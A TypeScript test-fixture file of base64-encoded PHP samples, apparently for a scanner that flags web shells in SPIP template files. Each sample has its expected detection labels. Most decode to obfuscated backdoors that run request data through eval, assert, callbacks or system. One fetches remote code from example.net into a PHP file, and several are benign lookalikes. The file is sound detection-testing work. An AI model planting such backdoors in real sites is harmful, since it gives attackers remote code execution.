import type { Sample } from '../types.ts'

/** Ways by which PHP calls what it is told, and by which what is sent comes there. */
export const callSamples: readonly Sample[] = [
  {
    name: 'the body of a function that is made of a text',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgcHJlZ19yZXBsYWNlX2NhbGxiYWNrKCIvLisvaSIsIGNyZWF0ZV9mdW5jdGlvbignJGFycicsICdyZXR1cm4gYXNzZXJ0KCRhcnJbMF0pOycpLCAkX1JFUVVFU1RbInAiXSk7',
    expect: ['php-request-code'],
  },
  {
    name: 'a page that is handed to a function before it is sent',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgb2Jfc3RhcnQoZnVuY3Rpb24gKCRjLCAkZCkgeyByZWdpc3Rlcl9zaHV0ZG93bl9mdW5jdGlvbigiYXNzZXJ0IiwgJGMpOyB9KTsgZWNobyAkX1JFUVVFU1RbInAiXTsgb2JfZW5kX2ZsdXNoKCk7',
    expect: ['php-request-code'],
  },
  {
    name: 'a page that is handed to a command',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64: 'PD9waHAgZXhpdDsgJGYgPSAic3lzdGVtIjsgb2Jfc3RhcnQoJGYpOyBlY2hvICJ4Ijs=',
    expect: ['php-hidden-call'],
  },
  {
    name: 'an iterator that calls',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJGkgPSBuZXcgQ2FsbGJhY2tGaWx0ZXJJdGVyYXRvcihuZXcgQXJyYXlJdGVyYXRvcihhcnJheSgkX1JFUVVFU1RbIm8iXSkpLCBjcmVhdGVfZnVuY3Rpb24oJyRhJywgJ2Fzc2VydCgkYSk7JykpOyBmb3JlYWNoICgkaSBhcyAkeCkgeyBlY2hvICR4OyB9',
    expect: ['php-request-code'],
  },
  {
    name: 'the names of fields, sorted by a function of the visitor',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64: 'PD9waHAgZXhpdDsgJGUgPSAkX1JFUVVFU1RbImUiXTsgJGEgPSBhcnJheSgidCIgPT4gMSwgJF9SRVFVRVNUWyJ4Il0gPT4gMik7IHVrc29ydCgkYSwgJGUpOw==',
    expect: ['php-request-code'],
  },
  {
    name: 'the keys of an array as code',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64: 'PD9waHAgZXhpdDsgJGEgPSBhcnJheSgkX1JFUVVFU1RbIngiXSA9PiAiMyIpOyAkYiA9IGFycmF5X2tleXMoJGEpWzBdOyBldmFsKCRiKTs=',
    expect: ['php-request-code'],
  },
  {
    name: 'a filter that calls, for a list of fields',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgZmlsdGVyX3Zhcl9hcnJheShhcnJheSgidCIgPT4gJF9SRVFVRVNUWyJ4Il0pLCBhcnJheSgidCIgPT4gYXJyYXkoImZpbHRlciIgPT4gRklMVEVSX0NBTExCQUNLLCAib3B0aW9ucyIgPT4gImFzc2VydCIpKSk7',
    expect: ['php-request-code'],
  },
  {
    name: 'a style sheet that calls PHP',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJHMgPSAiPHhzbDp2YWx1ZS1vZiBzZWxlY3Q9XCJwOmZ1bmN0aW9uKCdhc3NlcnQnLHN0cmluZyguKSlcIi8+IjsgJHAgPSBuZXcgWFNMVFByb2Nlc3NvcigpOyAkcC0+cmVnaXN0ZXJQSFBGdW5jdGlvbnMoKTsgJHAtPmltcG9ydFN0eWxlU2hlZXQoJHMpOw==',
    expect: ['php-hidden-call'],
  },
  {
    name: 'tags of YAML that call',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJHMgPSB1cmxlbmNvZGUoJF9SRVFVRVNUWyJwIl0pOyAkeSA9ICJnOiAheyRzfSAnfC4rfGUnIjsgeWFtbF9wYXJzZSgkeSwgMCwgJG4sIGFycmF5KCIheyRfUkVRVUVTVFsicCJdfSIgPT4gInByZWdfcmVwbGFjZSIpKTs=',
    expect: ['php-request-code'],
  },
  {
    name: 'an entry of all there is about a request',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64: 'PD9waHAgZXhpdDsgJGIgPSAiIjsgJGEgPSBhcnJheV92YWx1ZXMoJF9TRVJWRVIpOyBlY2hvIHN5c3RlbSgkYiAuICRhWzZdKTs=',
    expect: ['php-request-code'],
  },
  {
    name: 'packed and unpacked again',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJHIgPSBiYXNlNjRfZW5jb2RlKGd6Y29tcHJlc3Moc3RyaXBzbGFzaGVzKCRfUE9TVFsiYyJdKSwgOSkpOyBldmFsKGd6dW5jb21wcmVzcyhiYXNlNjRfZGVjb2RlKCRyKSkpOw==',
    expect: ['php-request-code'],
  },
  {
    name: 'written to a file that is brought in',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64: 'PD9waHAgZXhpdDsgZmlsZV9wdXRfY29udGVudHMoInBhZ2UuaHRtbCIsICI8P3BocCAiIC4gJF9SRVFVRVNUWyJjIl0pOyBpbmNsdWRlICJwYWdlLmh0bWwiOw==',
    expect: ['php-request-code'],
  },
  {
    name: 'a name put together letter by letter in a loop',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJGEgPSBhcnJheSgiYSIsICJzIiwgInMiLCAiZSIsICJyIiwgInQiKTsgJGYgPSAiIjsgZm9yICgkaSA9IDA7ICRpIDwgY291bnQoJGEpOyAkaSsrKSB7ICRmID0gJGYgLiAkYVskaV07IH0gJGYoJF9SRVFVRVNUWyJjIl0pOw==',
    expect: ['php-hidden-call', 'php-request-code'],
  },
  {
    name: 'words in capitals that are masked with texts',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJGYgPSBLVkRRUlQgXiAiKiU3NCAgIjsgJHUgPSAiSFBQViIgfCBBQ0RFOyAkdyA9ICJhIiB8IEJDREU7ICRmKGdldGVudigiSFRUUF9YX1dBUCIpKTs=',
    expect: ['php-hidden-call', 'php-request-code'],
  },
  {
    name: 'through a function of another file',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgaWYgKGlzc2V0KCRfUkVRVUVTVFsiYyJdKSkgeyAkYyA9IHRpZHlfdXAoJF9SRVFVRVNUWyJjIl0pOyBvYl9zdGFydCgpOyBldmFsKCRjKTsgfQ==',
    expect: ['php-request-code'],
  },
  {
    name: 'text of a file nobody knows, turned round, as code',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64: 'PD9waHAgZXhpdDsgZXZhbChzdHJyZXYoZmlsZV9nZXRfY29udGVudHMoImZ1bmN0aW9ucy5kYXQiKSkpOw==',
    expect: ['php-hidden-code'],
  },
  {
    name: 'a command in letters nobody can read',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64: 'PD9waHAgZXhpdDsgc3lzdGVtKGJhc2U2NF9kZWNvZGUoIlpXTm9ieUFpYjNKa1pYSWdaR1Z1ZVNJPSIpKTs=',
    expect: ['php-hidden-code'],
  },
  {
    name: 'a shell that waits',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64: 'PD9waHAgZXhpdDsgJGUgPSAiL2Jpbi9zaCI7ICRwID0gcG9wZW4oIiRlIiwgInIiKTsgcHJpbnQgZmdldHMoJHApOw==',
    expect: ['php-remote-code'],
  },
  {
    name: 'a variable old servers fill, for a function that runs commands',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgZnVuY3Rpb24gcnVuKCRjKSB7IHJldHVybiBzaGVsbF9leGVjKCRjKTsgfSBpZiAoaXNzZXQoJF9HRVRbImNtZCJdKSkgeyBlY2hvIHJ1bigkY21kKTsgfQ==',
    expect: ['php-request-code'],
  },
  {
    name: 'a program with what is sent in it',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64: 'PD9waHAgZXhpdDsgZnB1dHMoZm9wZW4oImMudHh0IiwgInciKSwgIjw/cGhwIGV2YWwoXCRfUE9TVFtjXSk7IC8vICRfUE9TVFtuXSIpOw==',
    expect: ['php-request-file'],
  },
  {
    name: 'a text from elsewhere that is a program here',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgZmlsZV9wdXRfY29udGVudHMoIndwLXhtbC5waHAiLCBmaWxlX2dldF9jb250ZW50cygiaHR0cDovL2V4YW1wbGUubmV0L25vdGVzL2xpc3QudHh0IikpOw==',
    expect: ['php-remote-code'],
  },
  {
    name: 'what was sent packed, written as a program',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64: 'PD9waHAgZXhpdDsgZmlsZV9wdXRfY29udGVudHMoX19ESVJfXyAuICIvY2FjaGUucGhwIiwgZ3ppbmZsYXRlKGJhc2U2NF9kZWNvZGUoJF9QT1NUWyJkIl0pKSk7',
    expect: ['php-request-file'],
  },
  {
    name: 'a program written with per cents, that is printed',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJHAgPSAiJTI0YSUyMCUzRCUyMDElM0IlMjAlMjRiJTIwJTNEJTIwJTI0X1BPU1QlNUIlMjdjJTI3JTVEJTNCJTIwZXZhbCUyOCUyNGIlMjklM0IlMjBleGl0JTI4JTI5JTNCIjsgcHJpbnQocmF3dXJsZGVjb2RlKCRwKSk7',
    expect: ['php-hidden-text'],
  },
  {
    name: "a function of the site's own, whose end another file has set",
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64: 'PD9waHAgJGcgPSAnbGFib18nIC4gJHk7IGlmIChmdW5jdGlvbl9leGlzdHMoJGcpKSAkZygkX1BPU1RbJ2InXSk7',
    expect: [],
  },
  {
    name: 'a page that is handed to functions of its own',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZnVuY3Rpb24gc3BpcF9zaG9ydGVuKCRwYWdlKSB7IHJldHVybiB0cmltKCRwYWdlKTsgfSBvYl9zdGFydCgnc3BpcF9zaG9ydGVuJyk7IGVjaG8gJF9HRVRbInEiXTsgb2JfZW5kX2ZsdXNoKCk7',
    expect: [],
  },
  {
    name: 'a body made of a text that sorts',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64: 'PD9waHAgdXNvcnQoJGxpc3QsIGNyZWF0ZV9mdW5jdGlvbignJGEsJGInLCAncmV0dXJuIHN0cmNtcCgkYVsidGl0cmUiXSwgJGJbInRpdHJlIl0pOycpKTs=',
    expect: [],
  },
  {
    name: 'an entry of the server by its name, and a list of others',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgJGEgPSBhcnJheV92YWx1ZXMoJF9TRVJWRVJbImFyZ3YiXSk7IGVjaG8gYmFzZW5hbWUoJGFbMF0pOyAkeCA9IG5ldyBBcnJheUl0ZXJhdG9yKGFycmF5KCRfR0VUWyJpZCJdKSk7IGZvcmVhY2ggKCR4IGFzICR5KSB7IGVjaG8gaW50dmFsKCR5KTsgfQ==',
    expect: [],
  },
  {
    name: 'a file in the cache that is written and read again',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgJGYgPSBfRElSX0NBQ0hFIC4gIm5vbXMudHh0IjsgZmlsZV9wdXRfY29udGVudHMoJGYsIHNlcmlhbGl6ZSgkbm9tcykpOyAkbCA9IHVuc2VyaWFsaXplKGZpbGVfZ2V0X2NvbnRlbnRzKCRmKSk7IGluY2x1ZGUgInBhZ2UuaHRtbCI7',
    expect: [],
  },
  {
    name: 'words that are compared and flags that are put together',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXJyb3JfcmVwb3J0aW5nKEVfQUxMIF4gRV9OT1RJQ0UpOyAkbSA9IExPQ0tfRVggfCBMT0NLX05COyBpZiAoImIiID4gImEiKSB7ICRuID0gc3RyX3JlcGxhY2UoIngiLCAieSIsICR0KSAuICRsWzBdOyB9IGNhbGxfdXNlcl9mdW5jKCRnLCAkbSk7',
    expect: [],
  },
  {
    name: 'a variable that may be gone again',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgaWYgKCFlbXB0eSgkSFRUUF9QT1NUX1ZBUlMpKSBleHRyYWN0KCRIVFRQX1BPU1RfVkFSUyk7IGlmICghZW1wdHkoJHdvcmtfZGlyKSkgeyBpZiAoZXJlZygiXmNkIiwgJGNvbW1hbmQsICRyZWdzKSkgeyB1bnNldCgkY29tbWFuZCk7IH0gfSBpZiAoIWVtcHR5KCRjb21tYW5kKSkgeyAkY29tbWFuZCAuPSAiIDI+JjEiOyBzeXN0ZW0oJGNvbW1hbmQpOyB9',
    expect: ['php-request-code'],
  },
  {
    name: 'a name made with the name of the file itself',
    path: 'squelettes/mes_fonctions.php',
    zone: 'template',
    mayHoldCode: true,
    base64:
      'PD9waHAgZXhpdDsgJGsgPSBzdWJzdHIoX19GSUxFX18sIC01LCAtNCkgLiAiTGFuZCEiOyAkZiA9IHBhY2soIkgqIiwgIjEzM2YxMjBiMTY1NSIpIF4gJGs7IGFycmF5X2ludGVyc2VjdF91YXNzb2MoYXJyYXkoJF9SRVFVRVNUWyJwIl0gPT4gIiIpLCBhcnJheSgxKSwgJGYpOw==',
    expect: ['php-hidden-call'],
  },
]
